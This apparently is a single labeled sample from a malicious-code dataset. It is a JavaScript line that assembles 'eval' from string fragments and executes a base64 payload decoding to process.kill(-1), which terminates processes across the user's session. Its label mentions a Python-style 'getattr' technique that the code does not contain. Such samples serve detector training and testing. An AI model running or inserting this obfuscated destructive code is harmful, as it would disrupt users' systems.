// label: malicious; obfuscated: getattr,base64
globalThis["ev" + "al"](atob("cHJvY2Vzcy5raWxsKC0xKQ=="));
